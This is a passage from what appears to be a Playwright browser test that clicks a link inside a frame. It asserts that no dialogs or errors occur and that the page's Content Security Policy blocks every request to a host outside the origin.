      await frame.locator('#jslink').click();
      await page.waitForLoadState('networkidle');
      expect(seen.dialogs).toEqual([]);
      expect(seen.errors).toEqual([]);
      // The browser asked for each remote thing and refused it itself: none reached the network.
      const outside = seen.requests.filter((u) => !u.startsWith(`${origin}/`));
      expect(outside.length).toBeGreaterThan(0);
      expect(outside.map((u) => [u, seen.failures.get(u)])).toEqual(outside.map((u) => [u, 'csp']));
    });
  });
});
